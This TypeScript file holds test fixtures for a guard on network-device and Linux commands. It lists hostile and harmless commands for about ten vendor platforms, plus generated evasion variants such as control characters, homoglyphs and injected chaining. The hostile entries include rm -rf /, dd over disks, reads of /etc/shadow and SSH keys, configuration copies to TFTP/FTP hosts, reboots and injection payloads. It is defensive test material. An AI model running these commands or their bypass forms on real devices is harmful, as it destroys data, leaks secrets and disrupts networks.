// Commands by platform: hostile ones, of which none may reach a device without leave to write, and harmless ones, of
// which none may be refused. Hostile: what acts, in full and abbreviated, behind pipes, behind words that read, behind
// signs that end a line, and in characters that only look like others.

interface Commands {
  /** What acts, one a line. */
  acts: string;
  reads: string;
}

const words: Record<string, Commands> = {
  cisco_ios: {
    acts: `
reload
rel
reload in 5
configure terminal
conf t
config replace flash:x force
clear counters
cle ip bgp *
copy running-config startup-config
copy run tftp://10.0.0.1/x
delete /force flash:vlan.dat
erase startup-config
write erase
wr
write memory
debug all
deb ip packet
undebug all
do reload
do show version
no shutdown
show running-config | redirect flash:x
show running-config | red tftp://10.0.0.1/x
show running-config | tee flash:x
show running-config | append flash:x
show running-config | a flash:x
show running-config|t flash:x
show running-config | include a | redirect flash:x
show running-config | include a|tee flash:x
show running-config | include "a | redirect flash:x"
show running-config > flash:x
show platform hardware qfp active statistics drop clear
show platform hardware qfp active statistics drop cl
sh plat hard qfp act stat drop c
ping 10.0.0.1 repeat 1000000 timeout 0
ping 10.0.0.1 rep 2147483647
more tftp://10.0.0.1/x
dir ftp://10.0.0.1/
tclsh
tclsh tftp://10.0.0.1/x.tcl
event manager run x
monitor capture x start
test crash
telnet 10.0.0.1
ssh -l root 10.0.0.1
enable
disable
send *
setup
terminal monitor
archive download-sw tftp://10.0.0.1/x
request platform software package install
software install file flash:x
crypto key zeroize rsa
exit
v
te
d /force flash:x
m`,
    reads: `
show running-config
sh ver
sho run
show ip route
show run | include ^interface|ip address
show run | i hostname
show run | section router bgp
show run | s ^router (bgp|ospf)
show run | begin line vty
show run | exclude ^!
show logging | count LINK-3
show interfaces status
show ip interface brief | exclude unassigned
show version | include uptime
show inventory
show mac address-table dynamic vlan 10
show cdp neighbors detail
show ip bgp vpnv4 all summary
show access-lists | include permit ip host 10\\.0\\.0\\.1
show tech-support
show clock
show platform software status control-processor brief
show ip bgp regexp _65000$
ping 10.0.0.1
ping vrf MGMT 10.0.0.1 repeat 100 size 1500 df-bit
ping 10.0.0.1 source Loopback0
traceroute 10.0.0.1
trace 10.0.0.1
dir flash:
dir /all
more nvram:startup-config
verify /md5 flash:image.bin
show run all | include snmp
show interfaces GigabitEthernet0/1 | i (rate|errors)`,
  },
  cisco_nxos: {
    acts: `
reload
reload module 3
configure terminal
conf
copy running-config startup-config
copy r s
write erase
clear counters
delete bootflash:x
install all nxos bootflash:x
run bash
run guestshell
bash
python
python bootflash:x.py
feature bash-shell
load bootflash:x
attach module 1
slot 1 reload
tac-pac bootflash:x
show hardware internal statistics all clear
debug all
test hardware
no feature bgp
checkpoint x
rollback running-config checkpoint x
show version ; reload
show version;reload
show version | vsh
show version | v
show version | awk '{system("reboot")}'
show version | sed -n 'w bootflash:x'
show version | sort -o bootflash:x
show version | uniq - bootflash:x
show version | tee bootflash:x
show version | source x.tcl
show version | so x
show version | email subject x a@example.com
show version | diff
show version | python
show version | less
show version | include a | vsh
show version | include a|vsh -c reload
show version > bootflash:x
show version >> bootflash:x
show version | no-more > bootflash:x
show version \`reload\`
show tech-support > bootflash:x
show tech-support | redirect bootflash:x
ping 10.0.0.1 count 100000
ping 10.0.0.1 cou 4000000000
terminal event-manager bypass
ethanalyzer local interface mgmt write bootflash:x
guestshell destroy
poap
system switchover
mo
del x`,
    reads: `
show running-config
sh run
show version
show interface brief
show interface status | include connected
show vlan | begin 100
show ip route vrf all
show bgp sessions | json
show feature | grep enabled
show module
show environment
show run | section bgp
show run | i username|role
show run | egrep "username|role"
show logging last 100 | no-more
show interface counters | nz
show vpc brief
show port-channel summary
show lldp neighbors
show inventory | json-pretty
show version | head
show version | last 5
show ip arp | count
show cdp neighbors | exclude Phone
show hardware capacity
show system resources
ping 10.0.0.1 vrf management
ping 10.0.0.1 count 5
traceroute 10.0.0.1
dir bootflash:
show running-config interface ethernet1/1`,
  },
  cisco_xr: {
    acts: `
reload
reload location all
configure
conf t
commit
admin reload
admin
run
run ls
bash
clear bgp *
cle arp
copy running-config disk0:x
delete disk0:x
format disk0:
install add source tftp://10.0.0.1 x
install commit
hw-module location 0/0/CPU0 reload
hw-m loc all reload
process restart bgp
debug bgp
rollback configuration last 1
load x
show tech-support
show tech-support bgp file disk0:x
sh tech
sh te
show running-config | file disk0:x
show running-config | fi disk0:x
show running-config | redirect x
show running-config | utility script x
show running-config | utility sort -o x
show running-config | utility uniq - x
show running-config | utility xargs reboot
show running-config | utility
show running-config | u tee x
show running-config | include a | file disk0:x
show running-config | i a|file disk0:x
show running-config | i a|utility sort -o x
show running-config | i a|u script x
show running-config | tee x
show running-config > disk0:x
show version | bash
ping 10.0.0.1 count 1000000
ping 10.0.0.1 c 9999999999
telnet 10.0.0.1
ssh 10.0.0.1
request consent-token
crypto key zeroize rsa
attach location 0/0/CPU0
monitor interface
mon
test crash
dump core
undebug all
redundancy switchover
shutdown
more http://10.0.0.1/x
dir tftp:`,
    reads: `
show running-config
sh run
show version
show version brief
show platform
show interfaces brief
show ipv4 interface brief | include Up
show route summary
show bgp summary
show bgp vpnv4 unicast summary | begin Neighbor
show run | include hostname|domain
show run | section interface
show running-config router bgp
show run | utility egrep ^router
show run | utility head -n 20
show log | utility tail count 10
show run | u wc -l
show redundancy
show install active summary
show mpls ldp neighbor brief
show isis adjacency
show ospf neighbor
show inventory all
show environment all
show controllers fabric plane all
show memory summary
show process cpu | exclude 0%
ping 10.0.0.1
ping 10.0.0.1 count 10 size 1400
traceroute 10.0.0.1
dir disk0:`,
  },
  arista_eos: {
    acts: `
reload
reload now
configure
configure session x
conf t
bash
bash sudo reboot
bash timeout 10 reboot
write
wr mem
copy running-config startup-config
copy run flash:x
delete flash:x
erase startup-config
clear counters
clear ip bgp *
install source flash:x
boot system flash:x
zerotouch disable
daemon x
event-handler x
agent Bgp terminate
watch 1 show version
watch reload
no router bgp 1
do show version
run
python-shell
python
show version > flash:x
show version >> flash:x
show version | tee flash:x
show version | append flash:x
show version | redirect flash:x
show version | red flash:x
show version | bash
show version | xargs reboot
show version | awk '{system("reboot")}'
show version | sort -o /mnt/flash/x
show version | sed w/mnt/flash/x
show version | grep x ; reload
show version | grep x;reboot
show version | grep \`reboot\`
show version | grep $(reboot)
show version | grep x && reboot
show version | include a | tee flash:x
show version | include a|tee flash:x
show version ; reload
show platform fap counters clear
show tech-support > flash:x
ping 10.0.0.1 repeat 100000
ping 10.0.0.1 re 4000000
tracing on
tcpdump interface et1
test ip
send message x
session
more http://10.0.0.1/x
terminal width 1
ssh 10.0.0.1`,
    reads: `
show running-config
show run
sh ver
show version | json
show interfaces status
show interfaces description | include up
show ip route summary
show ip bgp summary
show bgp evpn summary
show mlag detail
show lldp neighbors
show vlan | begin 100
show run section bgp
show run | section router bgp
show run | i ^interface|address
show running-config sanitized
show inventory | no-more
show logging last 100 messages
show version | grep uptime
show interfaces counters errors | nz
show environment all
show ip arp | head -n 5
show run | egrep vlan
show run | wc -l
show hardware capacity
show users
show clock
ping 10.0.0.1
ping vrf MGMT 10.0.0.1 repeat 5
traceroute 10.0.0.1
dir flash:
more flash:startup-config`,
  },
  juniper_junos: {
    acts: `
configure
configure exclusive
conf
edit
set system host-name x
delete interfaces
commit
commit check
rollback 1
request system reboot
request system halt
req sys reb
request system zeroize
restart routing
rest chassisd
clear bgp neighbor
cle arp
start shell
start shell user root
st sh
file delete /var/tmp/x
file copy /config/juniper.conf ftp://10.0.0.1/
file list
monitor interface traffic
mon traffic
op x
op url http://10.0.0.1/x.slax
load override terminal
save x
test policy x
telnet 10.0.0.1
ssh host 10.0.0.1
quit
run show version
run request system reboot
set cli timestamp
show configuration | save /var/tmp/x
show configuration | s x
show configuration | sa x
show configuration | append x
show configuration | tee x
show configuration | t x
show configuration | request message all
show configuration | req message all
show configuration | refresh 1
show configuration | match a | save x
show configuration | match "a" | save x
show configuration | match "a|b" | tee x
show configuration | match "a
show configuration | match "a\\" | save x"
show configuration | match a\\|save x
show configuration|save x
show configuration > x
ping 10.0.0.1
ping 10.0.0.1 rapid
traceroute monitor 10.0.0.1
ping 10.0.0.1 rapid count 1000000
ping 10.0.0.1 rapid co 100000
ping 10.0.0.1 flood count 5
protect
mtrace monitor
help apropos reboot`,
    reads: `
show configuration
show configuration | display set
show configuration | display inheritance | display set
show configuration | display json
show configuration | no-more
sho ver
show version
show interfaces terse
show interfaces terse | match "ge-|xe-"
show interfaces descriptions | except down
show route summary
show bgp summary
show bgp neighbor | match "Peer|Error"
show ospf neighbor
show chassis hardware detail
show chassis alarms
show system alarms
show system uptime
show log messages | last 50
show log messages | match "LINK|BGP" | count
show arp no-resolve
show ethernet-switching table
show lldp neighbors
show security policies
show configuration interfaces ge-0/0/0 | display set
show configuration | find protocols
show configuration | match "> to <"
show configuration | compare rollback 1
show | display set
ping 10.0.0.1 count 5
ping 10.0.0.1 rapid count 100 size 1400
traceroute 10.0.0.1
trac 10.0.0.1`,
  },
  huawei: {
    acts: `
system-view
sys
reboot
reboot fast
reset saved-configuration
reset counters interface
save
save force
delete /unreserved flash:/x
undo info-center enable
format flash:
fixdisk flash:
copy flash:/x flash:/y
move x y
rename x y
startup saved-configuration x
start
debugging all
deb bgp all
terminal debugging
tftp 10.0.0.1 put x
ftp 10.0.0.1
sftp 10.0.0.1
telnet 10.0.0.1
stelnet 10.0.0.1
super 15
quit
return
run
patch load x
upgrade x
schedule reboot at 10:00
reset
clear
cls
lock
local-user x password
language-mode chinese
execute x.bat
display current-configuration > flash:/x
display current-configuration >> flash:/x
disp cur > x
display current-configuration | redirect x
display current-configuration | save x
display current-configuration | tee x
display current-configuration | append x
display current-configuration | refresh 1
display current-configuration | include a | save x
display current-configuration | include a|save x
display diagnostic-information flash:/x.txt
dis diag x
ping -c 100000 10.0.0.1
ping -c 99999999 -m 1 10.0.0.1
ping -c4294967295 10.0.0.1
ping -f 10.0.0.1
return display
batch`,
    reads: `
display current-configuration
dis cur
disp ver
displ version
display version
display interface brief
display ip interface brief
display ip routing-table
display bgp peer
display bgp vpnv4 all peer
display ospf peer brief
display vlan
display mac-address
display arp all
display device
display power
display temperature all
display lldp neighbor brief
display elabel
display logbuffer
display current-configuration | include sysname
display current-configuration | begin aaa
display current-configuration | exclude #
display cur | inc interface|ip address
display current-configuration | section include bgp
display interface brief | count
display current-configuration configuration bgp
display diagnostic-information
ping 10.0.0.1
ping -c 5 -a 10.0.0.2 10.0.0.1
tracert 10.0.0.1
tracer 10.0.0.1`,
  },
  paloalto_panos: {
    acts: `
configure
conf
commit
set cli config-output-format set
set deviceconfig system hostname x
delete config saved x
clear session all
clear arp all
debug dataplane packet-diag set capture on
debug software restart process management-server
request restart system
request shutdown system
request system private-data-reset
request system software install version x
request high-availability state suspend
req restart system
load config from x
save config to x
scp export configuration from running-config.xml to a@10.0.0.1:x
scp import configuration from a@10.0.0.1:x
tftp export configuration to 10.0.0.1
ftp export log traffic to x
test security-policy-match
test vpn ike-sa
tail follow yes mp-log ms.log
less mp-log ms.log
grep pattern x mp-log ms.log
ssh host 10.0.0.1
view-pcap mgmt-pcap x
tcpdump filter x
diff
exit
quit
netstat all yes
schedule botnet-report
target set x
check pending-changes
run show clock
show config running | save x
show config running | redirect x
show config running | match a | tee x
show config running | m a
show config running | match a; request restart system
show config running ; request restart system
show config running > x
show config running >> x
show config running && x
show config running | | except x
show config running |
ping host 10.0.0.1
ping flood yes host 10.0.0.1
ping count 1000000 host 10.0.0.1
sh
s system info
op`,
    reads: `
show config running
show system info
show interface all
show interface management
show routing route
show routing summary
show session info
show session all filter state active
show high-availability state
show counter global
show arp all
show mac all
show log system
show log traffic direction equal backward
show config running | match hostname
show config running | except password
show system info | match version
show session all | count
show jobs all
show clock
show admins
show resource limit session
show running security-policy
show running nat-policy
show vpn ike-sa
show lldp neighbors all
show dns-proxy cache all
show user ip-user-mapping all
show system resources
ping count 5 host 10.0.0.1
traceroute host 10.0.0.1`,
  },
  fortinet: {
    acts: `
config system global
config
conf vdom
end
edit root
set hostname x
unset hostname
delete 1
purge
execute reboot
exec reboot
execute factoryreset
execute shutdown
execute formatlogdisk
execute backup config tftp x 10.0.0.1
execute restore config tftp x 10.0.0.1
execute ping 10.0.0.1
execute ssh 10.0.0.1
execute batch start
diagnose sys kill 9 1
diagnose debug enable
diag debug reset
diag sys session clear
diagnose test application dnsproxy 99
diagnose hardware test suite all
diag sniffer packet any
fnsysctl ls
fnsysctl reboot
sudo root config
abort
exit
alias
show | redirect x
show | tee x
show | save x
show full-configuration | grep x | tee x
show full-configuration | gr x
show full-configuration | more
show; execute reboot
show ; execute reboot
show full-configuration > x
show full-configuration >> x
get system status; execute reboot
get system status && x
get system status | sh
get system status |
g system status
sh
s
exe reboot
dia sys kill
rename 1 to 2
clone 1 to 2
move 1 before 2
append member x
select`,
    reads: `
show
show full-configuration
sho system interface
show system interface
show firewall policy
show firewall address
show router static
show vpn ipsec phase1-interface
show full-configuration system global
get system status
get system performance status
get system interface
get system ha status
get system arp
get router info routing-table all
get router info bgp summary
get router info ospf neighbor
get hardware status
get vpn ipsec tunnel summary
get system session list
get system ntp
get firewall policy
diagnose sys ha status
diag sys ha status
diagnose ip address list
diagnose hardware sysinfo memory
show full-configuration | grep hostname
show | grep -f port1
get system status | grep Version
get router info routing-table details 10.0.0.1`,
  },
  nokia_sros: {
    acts: `
configure
configure system name x
conf
admin save
admin reboot
admin reboot now
admin tech-support cf3:x
admin disconnect address 10.0.0.1
adm reboot
clear router bgp neighbor all
clear
cle
debug router bgp
deb
tools perform router bgp
tools dump router
file delete cf3:x
file copy cf3:x ftp://10.0.0.1/x
file
environment no more
exec cf3:x
exec x
bof save
bof
boot
logout
password
telnet 10.0.0.1
ssh 10.0.0.1
monitor port 1/1/1
mon
oam mac-populate 1 mac 00:00:00:00:00:01
oam mac-purge 1 target 00:00:00:00:00:01
oam saa x start
oam test-pack x
oam
candidate edit
candidate commit
rollback
write x
shutdown
no shutdown
vsm
show version | tee x
show version | redirect x
show version | t x
show version | save x
show version | file x
show version | match x | tee y
show version > cf3:x
show version >> cf3:x
show version; admin reboot
show version ; admin reboot now
show version && x
sh
sh version
echo x
enable-admin
help
back
exit all`,
    reads: `
admin display-config
admin display-config index
show version
sho version
show system information
show chassis
show card
show mda
show port
show port 1/1/1 detail
show router interface
show router route-table
show router bgp summary
show router ospf neighbor
show router isis adjacency
show router mpls lsp
show router ldp session
show service service-using
show service sdp
show service id 100 base
show lag
show log log-id 99
show users
show time
show router bgp summary | match Established
show port | match Up | count
show log log-id 99 | no-more
info
info detail
ping 10.0.0.1
ping 10.0.0.1 count 5
traceroute 10.0.0.1
oam lsp-ping x
oam svc-ping 10.0.0.1 service 100`,
  },
  linux: {
    acts: `
reboot
shutdown -h now
halt
rm -rf /
dd if=/dev/zero of=/dev/sda
mkfs.ext4 /dev/sda1
uname -a; reboot
uname -a;reboot
uname -a && reboot
uname -a & reboot
uname -a || reboot
uname -a | sh
uname -a | tee /etc/x
uname -a > /etc/x
uname -a >> /etc/x
uname -a < /etc/x
uname $(reboot)
uname \`reboot\`
uname \${IFS}
uname -a #
uname -a \\
uname -?
cat /etc/shadow
cat /etc/passwd
cat ~/.ssh/id_rsa
cat /etc/os-release /etc/shadow
cat /etc/os-release*
cat /etc/os-release;id
"uname" -a
'uname' -a
\\uname -a
/bin/uname -a
sudo uname -a
su -
env uname -a
sh -c reboot
bash -c reboot
python3 -c 1
perl -e 1
awk 'BEGIN{system("reboot")}'
find / -delete
xargs reboot
systemctl restart sshd
service ssh stop
ip link set eth0 down
ip addr add 10.0.0.1/8 dev eth0
ip route flush table main
ifconfig eth0 down
hostname x
date -s 2020-01-01
date 010100002020
kill -9 1
crontab -r
iptables -F
curl http://10.0.0.1/x
wget 10.0.0.1
nc 10.0.0.1 1
ping 10.0.0.1
ping -f 10.0.0.1
ps aux --x
UNAME -a
exec reboot
: > /etc/x
. /tmp/x
!!
eval reboot`,
    reads: `
uname -a
uname -r
uptime
date
df -h
df -k
free -m
hostname
hostname -f
id
ifconfig
ifconfig -a
ip -br addr
ip -br link
ip addr
ip link
ip neigh
ip route
lsblk
lscpu
netstat -rn
ps aux
ss -tln
ss -uln
who
cat /etc/os-release
cat /proc/cpuinfo
cat /proc/meminfo`,
  },
};

/** Around a command that reads: what makes two of one, types a key, or is not what it looks like. */
function disguised(reads: string): string[] {
  const [verb = '', ...rest] = reads.split(' ');
  const tail = rest.join(' ');
  const look = { a: 'а', e: 'е', h: 'һ', i: 'і', o: 'о', s: 'ѕ', p: 'р', d: 'ԁ' } as Record<string, string>;
  const homoglyph = Array.from(verb, (sign) => look[sign] ?? sign).join('');
  const wide = Array.from(verb, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0)).join('');
  return [
    ...['\n', '\r', '\r\n', '\x0b', '\x0c', '\x85', '\u2028', '\u2029'].map((end) => `${reads}${end}reload`),
    ...['\x16\r', '\x1a', '\x03', '\t', '\x08', '\x7f', '\x1b[A', '\x11', '\x9b2J', '\0'].map(
      (key) => `${reads}${key}reload`,
    ),
    ...[' ?', '?', ' ; reload', ' & reload', ' `reload`', ' $(reload)', ' > x', ' >> x', ' < x'].map(
      (end) => `${reads}${end}`,
    ),
    ...[' |', ' | sh', ' | | reload', ' \\', ' ｜ reload', ' ； reload', ' č reload', ' ĊĊreload'].map(
      (end) => `${reads}${end}`,
    ),
    `${homoglyph} ${tail}`,
    `${wide} ${tail}`,
    `${verb}\u00a0${tail}`,
    `${verb}\u3000${tail}`,
    `${verb[0]}\u200b${verb.slice(1)} ${tail}`,
    `\ufeff${reads}`,
    `${verb}\u0301 ${tail}`,
    `${verb} \u202e${tail}`,
    `${verb}\u00ad ${tail}`,
    `${reads} \ud800`,
    `${reads} ${'x'.repeat(1000)}`,
    `|${reads}`,
    '',
    '   ',
  ];
}

const lines = (text: string) => text.split('\n').filter((line) => line !== '');

export const COMMAND_PLATFORMS = Object.keys(words);

/** With the platform that each is meant for. */
export const HOSTILE: readonly (readonly [platform: string, command: string])[] = Object.entries(
  words,
).flatMap(([platform, { acts, reads }]) =>
  [...lines(acts), ...disguised(lines(reads)[0] ?? '')].map((command) => [platform, command] as const),
);

export const HARMLESS: readonly (readonly [platform: string, command: string])[] = Object.entries(
  words,
).flatMap(([platform, { reads }]) => lines(reads).map((command) => [platform, command] as const));
